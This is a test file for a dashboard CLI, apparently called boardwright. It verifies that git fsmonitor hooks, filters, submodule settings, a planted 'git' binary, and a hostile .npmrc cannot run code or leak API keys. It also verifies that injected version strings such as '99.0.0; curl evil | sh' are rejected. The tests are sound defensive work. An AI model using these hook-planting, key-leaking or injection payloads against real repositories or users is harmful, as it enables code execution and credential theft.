// What a checkout holds must not make git or npm run anything, or be sent anywhere (issue: code runs from a checkout).
import { execFileSync } from "node:child_process";
import { chmodSync, existsSync, readFileSync, writeFileSync } from "node:fs";
import { delimiter, join } from "node:path";
import { describe, expect, it, onTestFinished } from "vitest";
import { standBy } from "../cli/server.ts";
import { boardwright } from "../support/command.ts";
import { tempFolder } from "../support/temp.ts";

const PROJECT = {
  "boardwright.yaml":
    "version: 1\nproject: trust\ntargets:\n  sandbox: { url: 'sandbox:data.json', deployment: 1 }\n",
  "dashboards/a.yaml": "workbooks:\n  a: { name: A }\n",
};
const KEY = { PLATFORM_API_KEY: "key-of-the-platform-123456", GITHUB_TOKEN: "token-of-github-123456" };

/** A program that leaves its environment in a file when it runs, and answers as the hook of a file watcher does. */
function spy(): { program: string; left: string } {
  const folder = tempFolder();
  const program = join(folder, "spy");
  const left = join(folder, "left");
  writeFileSync(program, `#!/bin/sh\nenv > ${left}\nprintf '/\\0'\n`);
  chmodSync(program, 0o755);
  return { program, left };
}

function git(cwd: string, ...args: string[]): string {
  const settings = ["-c", "user.name=T", "-c", "user.email=t@example.org", "-c", "init.defaultBranch=main"];
  return execFileSync("git", [...settings, ...args], { cwd, encoding: "utf8" });
}

function apply(cwd: string, env: Record<string, string> = {}) {
  return boardwright(["apply", "--target", "sandbox", "--yes"], { cwd, env: { ...KEY, ...env } });
}

/** What the run record that the apply left says of Git. */
function gitOf(cwd: string): { commit?: unknown; dirty?: unknown } | undefined {
  const [file] = execFileSync("find", [".boardwright/backups", "-name", "run.json"], {
    cwd,
    encoding: "utf8",
  })
    .trim()
    .split("\n");
  return (JSON.parse(readFileSync(join(cwd, file!), "utf8")) as { git?: { commit?: unknown } }).git;
}

describe("a checkout", () => {
  it("whose project lies in an embedded bare repository runs nothing in apply", async () => {
    const { program, left } = spy();
    const outer = tempFolder();
    git(outer, "init", "-q");
    const cwd = join(outer, "dashboards-of-mine");
    execFileSync("git", ["init", "-q", "--bare", cwd]);
    for (const [name, text] of Object.entries(PROJECT)) {
      execFileSync("mkdir", ["-p", join(cwd, "dashboards")]);
      writeFileSync(join(cwd, name), text);
    }
    writeFileSync(
      join(cwd, "config"),
      `[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ${cwd}\n\tfsmonitor = ${program}\n`,
    );
    const tree = git(cwd, "--git-dir=.", "mktree", "--missing").trim();
    const commit = git(cwd, "--git-dir=.", "commit-tree", tree, "-m", "x").trim();
    git(cwd, "--git-dir=.", "update-ref", "refs/heads/main", commit);
    git(cwd, "-c", "safe.bareRepository=all", "status", "--porcelain");
    expect(existsSync(left), "the attack works where nobody minds").toBe(true);
    execFileSync("rm", [left]);
    expect((await apply(cwd)).code).toBe(0);
    expect(existsSync(left)).toBe(false);
    // It is no repository at all: what else its settings name, git does not get to see, and its commit is nobody's.
    expect(gitOf(cwd)?.commit).not.toBe(commit);
  });

  it("whose configuration names programs runs none of them in apply, and the commit is known", async () => {
    const { program, left } = spy();
    const cwd = tempFolder(PROJECT);
    git(cwd, "init", "-q");
    git(cwd, "add", ".");
    git(cwd, "commit", "-qm", "first");
    git(cwd, "config", "core.fsmonitor", program);
    git(cwd, "status", "--porcelain");
    expect(existsSync(left), "the attack works where nobody minds").toBe(true);
    execFileSync("rm", [left]);
    expect((await apply(cwd)).code).toBe(0);
    expect(existsSync(left)).toBe(false);
    expect(gitOf(cwd)?.commit).toBe(git(cwd, "rev-parse", "HEAD").trim());
  });

  it.each([
    ["a filter", "x", ""],
    ["a filter that must succeed", "x", "\trequired = true\n"],
    ["a filter whose name holds a dot", "a.b", ""],
    ["a filter whose name no option of git can hold", "a=b", ""],
  ])("whose attributes name %s runs it in no apply", async (_, name, more) => {
    for (const kind of ["clean", "process"]) {
      const { program, left } = spy();
      const cwd = tempFolder({
        ...PROJECT,
        ".gitignore": "data.json*\n",
        ".gitattributes": `*.yaml filter=${name}\n`,
      });
      git(cwd, "init", "-q");
      git(cwd, "add", ".");
      git(cwd, "commit", "-qm", "first");
      // Behind an include, as a file beside the configuration.
      const included = `[filter "${name}"]\n\t${kind} = ${program}\n${more}`;
      writeFileSync(join(cwd, ".git/more"), included);
      git(cwd, "config", "include.path", "more");
      writeFileSync(join(cwd, "boardwright.yaml"), PROJECT["boardwright.yaml"]);
      execFileSync("sh", ["-c", "git --no-optional-locks status || true"], { cwd, stdio: "ignore" });
      expect(existsSync(left), "the attack works where nobody minds").toBe(true);
      execFileSync("rm", [left]);
      expect((await apply(cwd)).code).toBe(0);
      expect(existsSync(left), kind).toBe(false);
      if (name === "x") expect(gitOf(cwd)).toMatchObject({ dirty: false });
    }
  });

  it("with a filter is dirty where a file was changed", async () => {
    const { program, left } = spy();
    const cwd = tempFolder({ ...PROJECT, ".gitignore": "data.json*\n", ".gitattributes": "* filter=x\n" });
    git(cwd, "init", "-q");
    git(cwd, "add", ".");
    git(cwd, "commit", "-qm", "first");
    git(cwd, "config", "filter.x.clean", program);
    writeFileSync(join(cwd, "dashboards/a.yaml"), "workbooks:\n  a: { name: B }\n");
    expect((await apply(cwd)).code).toBe(0);
    expect(existsSync(left)).toBe(false);
    expect(gitOf(cwd)).toMatchObject({ dirty: true });
  });

  it("whose submodules name programs runs none of them, whatever .gitmodules says", async () => {
    const { program, left } = spy();
    const cwd = tempFolder({ ...PROJECT, "sub/a.txt": "a\n" });
    const sub = join(cwd, "sub");
    git(sub, "init", "-q");
    git(sub, "add", ".");
    git(sub, "commit", "-qm", "first");
    git(cwd, "init", "-q");
    writeFileSync(
      join(cwd, ".gitmodules"),
      '[submodule "sub"]\n\tpath = sub\n\turl = ./sub\n\tignore = none\n',
    );
    git(cwd, "-c", "advice.addEmbeddedRepo=false", "add", ".");
    git(cwd, "commit", "-qm", "first");
    git(sub, "config", "filter.x.clean", program);
    writeFileSync(join(sub, ".git/info/attributes"), "* filter=x\n");
    writeFileSync(join(sub, "a.txt"), "a\n");
    git(cwd, "status", "--porcelain");
    expect(existsSync(left), "the attack works where nobody minds").toBe(true);
    execFileSync("rm", [left]);
    writeFileSync(join(sub, "a.txt"), "a\n");
    expect((await apply(cwd)).code).toBe(0);
    expect(existsSync(left)).toBe(false);
  });

  it("gives git no secret, and no program of the folder is taken for git", async () => {
    const cwd = tempFolder(PROJECT);
    git(cwd, "init", "-q");
    git(cwd, "add", ".");
    git(cwd, "commit", "-qm", "first");
    const { program, left } = spy();
    execFileSync("cp", [program, join(cwd, "git")]);
    const relative = { PATH: [".", "", process.env.PATH].join(delimiter) };
    expect((await apply(cwd, relative)).code).toBe(0);
    expect(existsSync(left), "a relative entry of PATH is not followed").toBe(false);
    execFileSync("rm", [join(cwd, "data.json")]);
    const absolute = { PATH: [cwd, process.env.PATH].join(delimiter) };
    expect((await apply(cwd, absolute)).code).toBe(0);
    expect(readFileSync(left, "utf8")).toMatch(/^HOME=/m);
    expect(readFileSync(left, "utf8")).not.toMatch(/123456|KEY|TOKEN/);
  });
});

describe("update", () => {
  it("asks the registry of the user, whatever .npmrc the folder holds, and takes the key to neither", async () => {
    const { url, requests, close } = await answering("99.0.0");
    onTestFinished(close);
    const foreign = await answering("99.0.0");
    onTestFinished(foreign.close);
    const cwd = tempFolder({
      "package.json": "{}",
      ".npmrc": `registry=${foreign.url}/\${PLATFORM_API_KEY}/\n`,
    });
    const ran = await boardwright(["update"], { cwd, env: { ...KEY, npm_config_registry: url } });
    expect(ran).toMatchObject({ code: 0, stdout: "npm install --global boardwright@99.0.0\n" });
    expect(foreign.requests).toEqual([]);
    expect(requests).toEqual(["GET /boardwright"]);
  });

  it.each([
    "99.0.0; curl evil | sh",
    "99.0.0\u001b[2J",
    "99.0.0 && x",
    "x99.0.0",
    "99.0.0\nrm",
    "99.0.0.1\u202e",
  ])("prints no version that is none: %j", async (version) => {
    const { url, close } = await answering(version);
    onTestFinished(close);
    const ran = await boardwright(["update"], { cwd: tempFolder(), env: { npm_config_registry: url } });
    expect(ran).toMatchObject({ code: 1, stdout: "" });
    expect(ran.stderr).not.toContain(version.slice(-4));
  });
});

function answering(newest: string) {
  return standBy((_, response) => {
    const dist = { tarball: "http://127.0.0.1/x.tgz" };
    const versions = { [newest]: { name: "boardwright", version: newest, dist } };
    response
      .writeHead(200, { "content-type": "application/json" })
      .end(JSON.stringify({ name: "boardwright", "dist-tags": { latest: newest }, versions }));
  });
}
